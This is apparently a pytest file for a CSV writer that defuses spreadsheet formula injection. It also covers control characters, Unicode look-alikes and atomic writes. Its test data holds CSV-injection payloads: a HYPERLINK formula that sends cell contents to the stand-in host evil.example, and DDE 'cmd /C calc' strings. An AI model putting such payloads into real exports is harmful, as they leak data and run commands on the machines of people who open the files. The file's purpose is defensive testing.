"""CSV: what goes in comes out, except what would be a formula."""

import csv
import io
import unicodedata
from pathlib import Path

import pandas  # type: ignore[import-untyped,unused-ignore]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sugoroku.records.csv_writing import neutral, table, write_table

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': None,
    "+cmd|' /C calc'!A0": None,
    "-2+3": None,
    "@SUM(1+1)": None,
    "=cmd|'/C calc'!'A1'": None,
    "-5": None,
    "+81 90": None,
    "-": None,
    "=": None,
    "＝1+1": None,
    "＋1": None,
    "－1": None,
    "＠x": None,
    "﹦1": None,
    "⁺1": None,
    " =1+1": None,
    "\u3000=1": None,
    "\u200b=1": None,
    "\ufeff=1+1": "'=1+1",
    "\t=1+1": "' =1+1",
    "\r=1+1": "'\n=1+1",
    "\n=1+1": "'\n=1+1",
    "\r\n=1": "'\n=1",
    "\x00=1": "'=1",
    "\x1b=1": "'=1",
    "\u202e=1": "'=1",
    "a;=1+1": "a;=1+1",
    "a\n@b": "a\n@b",
    "\u2028=1": "'\n=1",
    "\x00": "",
    "\x1b[31m": "[31m",
    "\u202e": "",
    "a\r\nb": "a\nb",
    "a\rb": "a\nb",
    "a,b;c\td": "a,b;c d",
    "\ud800=": "\ufffd=",
    "\nplain": "'\nplain",
    "\r": "'\n",
    "\u3000＝1": None,
    ";-)": ";-)",
}
PLAIN = (
    "",
    "a\nb",
    'a"b',
    "|cmd",
    "%0A=1",
    '"=1+1',
    "'=1+1",
    "𝟙=1",
    "；",
    'DDE("cmd";"/C calc";"1")',
    "地球をまもりたい、です。",
    "¡Qué divertido! 1+1=2",
    "👨‍👩‍👧 🌱️",
    "e\u0301",
    "  two spaces",
    "x = 1 - 2",
)


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_comes_out_in_its_neutral_form(text: str) -> None:
    expected = HOSTILE[text]
    expected = "'" + text if expected is None else expected
    assert read(table([[text, "next"]])) == [[expected, "next"]]


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_comes_out_letter_by_letter(text: str) -> None:
    assert read(table([["first", text]])) == [["first", text]]


def harmless(cell: str) -> bool:
    """It does not begin like a formula."""
    shown = "".join(c for c in cell if unicodedata.category(c) != "Cf").strip()
    return unicodedata.normalize("NFKC", shown)[:1] not in set("=+-@")


ANY_TEXT = st.text(
    st.characters(exclude_categories=()) | st.sampled_from("=+-@＝;\t\r\n\x00'\"\u200b")
)


@given(st.lists(st.lists(ANY_TEXT, min_size=2, max_size=3), min_size=1, max_size=3))
def test_any_text_at_all(rows: list[list[str]]) -> None:
    back = read(table(rows))
    assert back == [[neutral(text) for text in row] for row in rows]
    for row in back:
        for cell in row:
            assert harmless(cell) and not cell.startswith(("\t", "\r", "\n"))
            assert neutral(cell) == cell
            assert not any(unicodedata.category(c) in ("Cc", "Cs") and c != "\n" for c in cell)


@given(
    st.text(st.characters(categories=("L", "N", "S", "Zs"), exclude_characters="=+⁺₊﹢＋＝⁼₌﹦"))
)
def test_a_harmless_text_is_kept(text: str) -> None:
    assert neutral(text) == text


def test_numbers_of_our_own_stay_numbers() -> None:
    assert table([[-5, 0.5, -17500.0, True, False, None, 1e-7]]) == (
        b"\xef\xbb\xbf-5,0.5,-17500,1,0,,1e-07\r\n"
    )


def test_pandas_reads_the_same(tmp_path: Path) -> None:
    texts = [neutral(text) for text in (*HOSTILE, *PLAIN)]
    write_table(tmp_path / "t.csv", [("n", "text"), *enumerate((*HOSTILE, *PLAIN))])
    frame = pandas.read_csv(
        tmp_path / "t.csv", keep_default_na=False, dtype={"text": str}, encoding="utf-8-sig"
    )
    assert list(frame.columns) == ["n", "text"]
    assert list(frame["text"]) == texts


def test_the_form_is_that_of_rfc_4180() -> None:
    assert table([("a", "b"), ('x,"y"', "l1\nl2")]) == (
        b'\xef\xbb\xbfa,b\r\n"x,""y""","l1\nl2"\r\n'
    )


def test_a_failed_write_leaves_the_old_file_and_no_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "t.csv"
    write_table(path, [["old"]])

    def locked(*_: object) -> None:
        raise PermissionError(13, "in use")

    monkeypatch.setattr("os.replace", locked)
    with pytest.raises(PermissionError):
        write_table(path, [["new"]])
    assert path.read_bytes() == b"\xef\xbb\xbfold\r\n"
    assert [entry.name for entry in tmp_path.iterdir()] == ["t.csv"]
